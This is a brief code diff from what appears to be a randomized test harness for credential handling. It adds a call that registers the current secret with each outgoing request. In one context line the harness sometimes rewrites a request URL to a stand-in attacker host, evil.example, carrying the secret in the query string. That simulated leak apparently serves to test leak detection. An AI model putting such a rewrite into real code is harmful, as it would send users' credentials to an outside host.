@@ -61,6 +61,8 @@ function ownCredential(world: World): Credential {
   const { dice } = world;
   let current = world.newSecret();
   const apply: Credential['apply'] = (request) => {
+    // It may come late, after the key has changed: the call has to know the one that it carries.
+    request.addSecrets?.([current]);
     request.headers['x-own-key'] = current;
     if (!world.isCalm && dice.chance(0.01)) request.headers['x-lie'] = dice.pick<never>([7, 'a\nb', null] as never[]);
     if (!world.isCalm && dice.chance(0.01)) request.url = `https://evil.example/?${current}`;
